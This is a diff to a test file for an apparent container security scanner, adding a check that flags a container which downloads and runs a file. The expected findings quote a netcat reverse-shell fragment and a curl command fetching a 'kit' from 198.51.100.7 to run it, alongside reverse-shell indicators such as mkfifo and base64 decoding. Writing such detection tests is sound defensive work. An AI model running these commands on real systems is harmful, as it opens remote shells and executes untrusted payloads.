@@ -111,6 +111,7 @@ describe('the public samples', () => {
     const escapes = findings.filter((f) => f.indicator === 'shell-escape').map((f) => `${f.path} ${f.message.split(':')[0]}`);
     assert.deepEqual(escapes, [
       `${containers}/args/0 Container "metrics" makes a file executable (chmod +x), typically a payload it just fetched`,
+      `${containers}/args/0 Container "metrics" runs a file it downloaded`,
       `${containers}/args/0 Container "metrics" decodes base64 (base64 -d), a common way to smuggle a payload past review`,
       `${containers}/args/0 Container "metrics" creates a named pipe (mkfifo), used to wire a shell to a network connection`,
       `${containers}/args/0 Container "metrics" starts an interactive shell (-i), the core of a reverse shell`,
@@ -120,7 +121,9 @@ describe('the public samples', () => {
     const others = new Set(findings.filter((f) => f.indicator !== 'shell-escape').map((f) => f.indicator));
     assert.deepEqual([...others].sort(), ['attacker-tooling', 'host-path-mount', 'host-pid', 'privileged-container', 'sensitive-mount']);
     const invoked = findings.filter((f) => f.indicator === 'attacker-tooling' && !f.path.endsWith('/image')).map((f) => f.evidence);
-    assert.deepEqual(invoked, ['nc 198.51.100.7 4444 > /tmp/f']);
+    assert.deepEqual(invoked, ['nc 198.51.100.7 4444 > /tmp/f', 'curl -fsSL -o /work/kit http://198.51.100.7/kit']);
+    const run = findings.find((f) => /runs a file it downloaded/.test(f.message));
+    assert.equal(run?.evidence, 'curl -fsSL -o /work/kit http://198.51.100.7/kit … /work/kit');
   });
 
   test('everyday jobs that only mention the words: nothing but what they really do', () => {
